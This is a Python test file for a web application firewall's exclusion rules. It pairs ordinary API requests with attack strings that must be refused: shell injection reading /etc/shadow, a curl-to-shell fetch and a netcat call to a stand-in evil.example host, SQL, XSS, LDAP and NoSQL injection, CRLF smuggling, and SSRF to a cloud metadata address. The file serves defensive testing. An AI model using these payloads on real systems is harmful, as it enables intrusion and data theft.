"""Each exclusion of waf/rules/exclusions.conf: the ordinary request that it lets pass, and the attack beside it that is still refused."""

import json
from collections.abc import Callable
from urllib.parse import quote

import pytest

from tests.nginx.backends import RawBackend
from tests.nginx.gateway import Answer, Gateway
from tests.sites import Sites
from tests.waf.corpus import BOUNDARY, FORM, JSON, api, multipart
from tests.waf.site import Site
from tests.waf.test_detection import explain, send
from tools.local.nginx import Edit

pytestmark = pytest.mark.runtimes("compose")

PASSING = 0.98


def test_ordinary_api_traffic_passes(site: Site, runtime: str, note: Callable[[str], None]) -> None:
    """With the settings as they are; docs/waf.md lists what is refused."""
    outcomes = send(site, api(), "api")
    refused = [explain(site, outcome) for outcome in outcomes if outcome.status != 200]
    note(f"firewall ({runtime}): API traffic: {len(outcomes) - len(refused)} of {len(outcomes)} passed")
    for line in refused:
        note(f"firewall ({runtime}): refused although ordinary: {line}")

    assert len(outcomes) >= 400
    assert len(refused) <= (1 - PASSING) * len(outcomes)


def post(
    site: Gateway, body: str | bytes, content_type: str = JSON, *headers: str, path: str = "/api/v1/entries", host: str = "localhost"
) -> int:
    data = body.encode() if isinstance(body, str) else body
    return site.request("POST", path, f"Content-Type: {content_type}", *headers, body=data, host=host).status


def value(site: Gateway, *texts: str) -> int:
    return post(site, json.dumps({f"text_{number}": text for number, text in enumerate(texts)}))


# Value by value: ordinary, and an attack in the same form or beside it.
VALUES = [
    ("who is there; ls what we need; cat photos are welcome", "who is there; cat /etc/shadow"),
    ("Please find attached; kill two birds with one stone", "please find the; cat flag"),
    ("Please find attached; kill two birds with one stone. Yes.", "please find the; wget the new page.example.org"),
    ("Please find attached; kill two birds with one stone", "what is the name of our file; ls -la and the others too"),
    ("The union of students selects its chair from among its members.", "1 union select name from users"),
    ("The union of students selects its chair from among its members.", "the name of' union select password from users--"),
    ('<p style="text-align: center;">Hello <strong>world</strong></p>', '<p style="x" onclick="alert(1)">Hello</p>'),
    ('<p><img src="/media/photo.jpg" alt="A photo" width="300"></p>', '<p><img src="x" onerror="alert(1)"></p>'),
    ('<p><a href="https://www.example.org/?a=b">this</a></p>', '<p><a href="javascript:alert(1)">this</a></p>'),
    ('10.0.0.1 - - [21/Nov/2026:15:20:00 +0000] "GET /a HTTP/1.1" 200 512', "a\r\nGET /admin HTTP/1.1"),
    ('POST /login HTTP/1.1 302 - "Mozilla/5.0 (X11)"', "POST /login HTTP/1.1 302%0d%0aGET /admin HTTP/1.1"),
    ("at Object.<anonymous> (/srv/app/index.js:284:15)", "<(cat /etc/shadow)"),
    ("20 $ (net), 24 $ (gross)", "20 $ (net), $(cat flag)"),
    ("20 $ (net), 24 $ (gross)", "20 $ (net), %24(cat flag)"),
    ("Use `git pull` and then run the tests.", "`cat /etc/shadow` and then run the tests"),
    ("Use `git pull` and then run the tests.", "Use `curl http://evil.example/ | sh` and then run the tests."),
    ("Use `git pull` and then run the tests.", "Use `git pull` and then run; cat flag"),
    ("Please run:\n\n```sh\ngit pull && make\n```", "Please run:\n\n```sh\nbash -c 'id' && nc evil.example 4444\n```"),
    ("Please run:\n\n```sh\ngit pull && make\n```", "Please run:\n/bin/cat /etc/shadow"),
    ("The file is in /etc/app/app.conf, and it should not be there.", "/etc/hosts"),
    ("The file is in /etc/hosts, and it should not be there.", "The list of all users is in /etc/passwd as you know"),
    ("The file is in /etc/hosts, and it should not be there.", "the list of all users; cat /etc/hosts"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L9 9"/></svg>', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ('<svg viewBox="0 0 9 9"><g fill="red"/></svg>', '<svg viewBox="0 0 9 9"><script>alert(1)</script></svg>'),
    ('<html><body><table width="600"></table></body></html>', "HTTP/1.1 200 OK\r\n\r\n<html>"),
    ('project = KIT AND status in ("To Do", "Done") ORDER BY created', "project = 1 OR 1=1 --"),
    ('project = KIT AND status in ("To Do", "Done") ORDER BY created', "project = 'x' or 'a'='a"),
    ("SELECT * FROM orders WHERE total > 100 is slow. Should I add an index?", "SELECT * FROM users WHERE id = 1 OR 1=1 -- slow"),
    ("query Q($where: Filter!) { users(where: $where) { id } }", "$where: function() { return this.a }"),
    ("no such file or directory, open '/srv/app/package.json'", "'/srv/app/package.json'"),
    ("datum.year >= 2020 && datum.name != 'x'", "x' || 'a'='a"),
    ("00:01.000 --> 00:04.000\nWhere is the cat?", "00:01.000 --> 00:04.000\n--> <b"),
    ("00:01.000 --> 00:04.000\nWhere is the cat?", "00:01.000 --> 00:04.000\ndocument%2ecookie"),
    ("- Who's there?\n- It's me; open the door!", "1; declare @a int"),
    ('<?xml version="1.0"?><rss version="2.0"><title>News</title></rss>', '<?xml version="1.0"?><rss><link onload="alert(1)"/></rss>'),
    ('connect() failed, client: 10.0.0.9, request: "GET /api HTTP/1.1", upstream: "app"', "request: a\r\nGET /admin HTTP/1.1"),
    ('Price in {currency}, as in {"price": 1}. See `git log` for more.', "Price in {cat,/etc/hosts}, see `git log` for more, please."),
    ("<!-- please say what you saw -->\nIt stops.", '<!--#exec cmd="ls" -->\nIt stops.'),
    ("<!-- please say what you saw -->\nIt stops.", "<!-- please --><img src=x onerror=alert(1)>"),
    ("2147483647", "-1 or 2147483647=2147483647"),
    ("sum(amount), avg(order.total)", "sum(amount), sleep(5)"),
    ("STATE_NAME LIKE 'N%' AND PERSONS > 1000000", "x' LIKE 'N' OR 'a'='a"),
    ('<s:Body xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Fault/></s:Body>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
    ("Steps:\n1. Select the file\n2. Delete it\n3. Create a new one", "Steps:\n1; select pg_sleep(5)"),
    ("- [ ] update the list\n\n# Select a plan", "- update users set name = 'x'"),
    ("It works.\n\nUPDATE: it does not", "1 union select name from users"),
    ("- create new page\n- load more", "') create user x identified by 'y'"),
    ("This is what I get now:\nnothing.", "This is what I\nget /admin\nnow"),
    ("This is what I get now:\nnothing.", "This is what I get now%0d%0aget /admin"),
    ("http/1.1", "http/1.1 200 ok"),
    ("email openid https://www.googleapis.com/auth/userinfo.profile", "email /srv/app/.profile"),
    ("Hello ${user.first_name}, see ${ORDER_URL}", "Hello ${IFS}cat"),
    ("Hello ${user.first_name}, see ${ORDER_URL}", "Hello ${user.first_name}, $(cat flag)"),
    ("year(starts_on), round(total)", "year(starts_on), sleep(5)"),
    ('<p>A<img src="/a.webp" srcset="/a-4.webp 400w" loading="lazy"></p>', '<p>A<img src="/a.webp" data-bind="x" onerror="alert(1)"></p>'),
    ('<!-- wp:image {"id":2} -->\n<p>A</p>\n<!-- /wp:image -->', "<!-- wp:image --><script>alert(1)</script>"),
    ('<iframe width="5" src="https://www.youtube.com/embed/x" allowfullscreen></iframe>', '<iframe src="https://example.org/embed/x"></iframe>'),
    ("(&(objectClass=person)(|(cn=Anna*)(mail=a@example.org)))", "*)(uid=*))(|(uid=*"),
]  # fmt: skip


@pytest.mark.parametrize(("ordinary", "attack"), VALUES)
def test_the_form_of_a_value_decides(site: Site, ordinary: str, attack: str) -> None:
    assert value(site, ordinary) == 200
    assert value(site, attack) == 403
    assert value(site, ordinary, attack) == 403


@pytest.mark.parametrize("name", ["next", "redirect_uri", "return_to"])
def test_an_address_of_the_site_itself_is_where_a_login_leads_back_to(site: Site, name: str) -> None:
    def ask(host: str, target: str, argument: str = name) -> int:
        return site.waf.get(f"/login/?{argument}={quote(target, safe='')}", host=host).status

    for host in ("localhost:8080", "127.0.0.1:8080", "intranet:8080", "10.0.0.5"):
        assert ask(host, f"http://{host}/contacts/?page=2") == 200
        assert ask(host, "http://169.254.169.254/latest/meta-data") == 403
        assert ask(host, f"http://{host}@169.254.169.254/") == 403
        assert ask(host, f"http://{host}/contacts/", "url") == (403 if host != "intranet" else 200)
    assert site.waf.get(f"/?{name}=http://localhost/&{name}=http://10.0.0.5/", host="localhost").status == 403


@pytest.mark.parametrize(
    ("ordinary", "attack"),
    [
        ("q=(filters:!((col:notes,opr:ct,value:'and')))", "q=(filters:!((col:notes,opr:ct,value:'and' or 1=1)))"),
        ("q=(filters:!((col:notes,opr:ct,value:'--')))", "q=1' or '1'='1"),
        ("$filter=Tags/any(t: t eq 'new')", "$filter=x' or 'a'='a"),
        ("$expand=Orders($select=Id;$orderby=Total desc)", "$expand=Orders; cat /etc/hosts"),
        ("$select=Id,Name&$orderby=Name desc", "$select=1 union select password from users"),
        ("q=(filters:!((col:notes,opr:ct,value:'salt and pepper')))", "q=salt ' or true or ' pepper"),
        ("q=(name:'the union')", "q=(name:' or true or ')"),
        ("$filter=Name eq 'salt and pepper'", "$filter=Name eq ' or true or '"),
        ("query={ me { id name } }", "query={ id; cat /etc/shadow }"),
    ],
)
def test_languages_of_queries(site: Site, ordinary: str, attack: str) -> None:
    for query, status in ((ordinary, 200), (attack, 403)):
        assert site.get("/api/v1/entries?" + quote(query, safe="=&$")).status == status


def test_code_is_for_bodies(site: Site) -> None:
    assert site.get("/api/v1/entries?text=" + quote("Use `git pull` and then run the tests.")).status == 403


def test_the_example_of_a_file_of_settings_may_be_uploaded(site: Site) -> None:
    def upload(name: str) -> int:
        return post(site, multipart({}, (name, "application/octet-stream", b"A=1")), f"multipart/form-data; boundary={BOUNDARY}")

    assert [upload(name) for name in (".env.example", ".env", ".env.example.php", ".gitignore")] == [200, 403, 403, 200]


def test_the_type_of_a_body_says_nothing_about_the_query(site: Site) -> None:
    graphql = "Content-Type: application/graphql"

    assert post(site, "{ me { id name } }", "application/graphql") == 200
    assert site.get("/api/v1/entries?name=" + quote("x; cat flag"), graphql).status == 403
    assert post(site, "{ me { id } }", "application/graphql", path="/api/v1/entries?name=" + quote("x; cat flag")) == 403
    assert post(site, "name;price\nA;1\n", "text/csv", path="/api/v1/entries?dry_run=true") == 200
    assert post(site, "name;price\nA;1\n", "text/csv", path="/api/v1/entries?dry%0arun=true") == 403


@pytest.mark.parametrize(
    ("ordinary", "attack"),
    [
        ("application/json; charset=utf8", "application/json; charset=utf-7"),
        ("application/json; version=1", "application/json; version=<script>"),
        ('application/json; profile="https://example.org/a"', 'application/json; profile="\' or 1=1--"'),
        ("application/json;odata.metadata=minimal; charset=us-ascii", "application/json; charset=ibm037"),
    ],
)
def test_parameters_of_a_type(site: Site, ordinary: str, attack: str) -> None:
    assert post(site, '{"name": "Anna"}', ordinary) == 200
    assert post(site, '{"name": "Anna"}', attack) == 415


LINES = [
    "application/jsonl",
    "application/x-ndjson",
    "text/calendar",
    "text/csv",
    "text/markdown",
    "text/tab-separated-values",
    "text/vcard",
]
OPAQUE = ["application/octet-stream", "application/pdf", "application/zip", "image/gif", "image/jpeg", "image/png", "image/webp"]


@pytest.mark.parametrize("content_type", ["text/plain;charset=UTF-8", *LINES, *OPAQUE])
def test_a_text_of_any_type_is_inspected(site: Site, content_type: str) -> None:
    assert post(site, '{"name": "Anna", "note": "It\'s a lovely evening & more"}\n', content_type) == 200
    for attack in ("<script>alert(1)</script>", "1 union select password from users", "; cat /etc/shadow"):
        assert post(site, json.dumps({"name": "Anna", "note": attack}), content_type) == 403


@pytest.mark.parametrize("content_type", OPAQUE)
def test_what_is_binary_passes_and_its_query_is_inspected(site: Site, content_type: str) -> None:
    picture = b"\x89PNG\r\n\x1a\n\0" + bytes(range(256)) * 8

    assert post(site, picture, content_type, path="/photo?name=a.png") == 200
    assert post(site, picture, content_type, path="/photo?name=<script>alert(1)</script>") == 403
    assert post(site, picture, content_type, "Cookie: a=%3Cscript%3Ealert(1)%3C/script%3E") == 403
    assert post(site, picture, "text/plain") == 403


def test_names_of_files(site: Site) -> None:
    def upload(name: str) -> int:
        return post(site, multipart({}, (name, "text/plain", b"hello")), f"multipart/form-data; boundary={BOUNDARY}")

    def part(header: str) -> int:
        body = multipart({}, ("2026-11-21T15:20.log", f"text/plain\r\n{header}", b"hello"))
        return post(site, body, f"multipart/form-data; boundary={BOUNDARY}")

    assert {upload(name) for name in ("it's.txt", "a;b.txt", "a=b.txt", "O'Brien & Sons (3).pdf", "2026-11-21T15:20.log")} == {200}
    assert upload("a.txt;filename=b.py") == 403
    assert (part("X-Note: a"), part("X-Note: a b: c")) == (200, 403)


def test_headers_and_passwords(site: Site) -> None:
    assert site.get("/", "Accept-Charset: utf-8").status == 200
    assert site.get("/", "Lock-Token: a").status == 403
    for text in ("$ecret$(2026)", "../my/pass"):
        assert post(site, json.dumps({"password": text})) == post(site, f"password={quote(text)}", FORM) == 200
        assert post(site, json.dumps({"name": text})) == 403


@pytest.mark.parametrize("name", ["password", "new_password", "user[password]"])
def test_a_password_is_not_looked_at(site: Site, name: str) -> None:
    """One of a generator's looks like any attack. Beside it, in the query and under another name it is refused."""
    for word in ("' or '1'='1", "qW%41&x=7;ls rT", "zY$(7k)pQ!mN{3}", "a<script>9!zQ"):
        field, given = quote(name), quote(word)
        assert post(site, f"username=anna&{field}={given}", FORM) == post(site, json.dumps({name: word})) == 200
        assert {
            post(site, f"username={given}&{field}={given}", FORM),
            post(site, f"{field}x={given}", FORM),
            post(site, f"{field}=a", FORM, path=f"/?{field}={given}"),
            site.get(f"/?{field}={given}").status,
        } == {403}


def test_names_of_passwords_are_a_setting(shared_sites: Sites, backend: RawBackend) -> None:
    other = shared_sites(backend.address, {"WAF_PASSWORD_FIELDS": "pin login.pin"})

    for body, status in (({"pin": "x;ls rT"}, 200), ({"login": {"pin": "x;ls rT"}}, 200), ({"password": "x;ls rT"}, 403)):
        assert post(other, json.dumps(body)) == status


def test_a_text_with_code_has_addresses_with_parts_to_fill_in_beside_it(site: Site) -> None:
    code = "Use `git pull` and then run the tests."
    assert value(site, code, "https://api.example.org/repos/a{/ref}{?page,size}") == 200
    assert value(site, code, "https://api.example.org/repos/a{;cat flag}") == 403


def test_an_object_of_json_may_be_a_profile(site: Site) -> None:
    assert post(site, json.dumps({"user": {"profile": {"name": "Anna"}}})) == 200
    assert post(site, json.dumps({"user/.profile": "Anna"})) == post(site, "user/.profile=Anna", FORM) == 403


def test_an_operator_compares_in_a_filter(site: Site) -> None:
    queries = [
        f"/api/v1/entries?{quote(name)}=5" for name in ("filters[price][$lte]", "where[price][$in][0]", "price[$lte]", "filters[$where]")
    ]
    bodies = [
        {"where": {"$and": [{"price": {"$gte": 5}}]}},
        {"filter": {"price": {"$lt": 5}}},
        {"price": {"$gte": 5}},
        {"filter": {"$where": "a"}},
    ]

    assert [site.get(query).status for query in queries] == [200, 200, 403, 403]
    assert [post(site, json.dumps(body)) for body in bodies] == [200, 200, 403, 403]


def test_what_a_client_accepts(site: Site) -> None:
    activity = 'application/ld+json; profile="https://www.w3.org/ns/activitystreams", application/json;q=0.9'

    assert site.get("/api/v1/entries", f"Accept: {activity}").status == 200
    assert site.get("/api/v1/entries", f"Accept: {activity}, application/json;charset=utf-7").status == 403


def test_alertmanager_says_where_it_is(site: Site) -> None:
    alert = {"externalURL": "http://alertmanager:9093", "alerts": [{"generatorURL": "http://prometheus:9090/graph?g0.expr=up"}]}
    assert post(site, json.dumps(alert)) == 200
    assert post(site, json.dumps({"alerts": [{"url": "http://prometheus:9090/graph"}]})) == 403


# --- Sizes and numbers are settings


def many(number: int) -> bytes:
    return json.dumps(dict.fromkeys(map(str, range(number)), 1)).encode()


def problem(answer: Answer) -> tuple[int, bool]:
    return answer.status, "WAF_VALUES" in answer.json()["detail"] or "WAF_BODY_LIMIT" in answer.json()["detail"]


def test_sizes_and_numbers_of_values_are_settings(site: Site, shared_sites: Sites, backend: RawBackend) -> None:
    """A refusal names the setting; an exclusion for an address holds for both."""
    large = json.dumps({"text": "It is a lovely evening. " * 90_000}).encode()
    more = shared_sites(backend.address, {"WAF_BODY_LIMIT": "4194304", "WAF_VALUES": "12000"})
    rule = 'SecRule REQUEST_URI "@beginsWith /import" "id:1000,phase:1,pass,nolog,ctl:ruleRemoveById=10110,ctl:ruleRemoveById=200007"\n'
    apart = shared_sites(backend.address, {}, [Edit("rules/user-before.conf", r"\Z", f"\n{rule}")])

    for body in (many(10_001), large):
        assert problem(site.request("POST", "/api/v1/entries", f"Content-Type: {JSON}", body=body)) == (413 if body == large else 422, True)
        assert post(more, body) == 200
        assert (post(apart, body, path="/import"), post(apart, body, path="/other")) == (200, 413 if body == large else 422)
    assert post(more, many(11_000)) == 200
    assert post(site, large[:215_999] + b'"}') == 200  # 216 KB: with the defaults
    assert value(apart, "<script>alert(1)</script>") == post(apart, '{"a": "<script>alert(1)</script>"}', path="/import") == 403
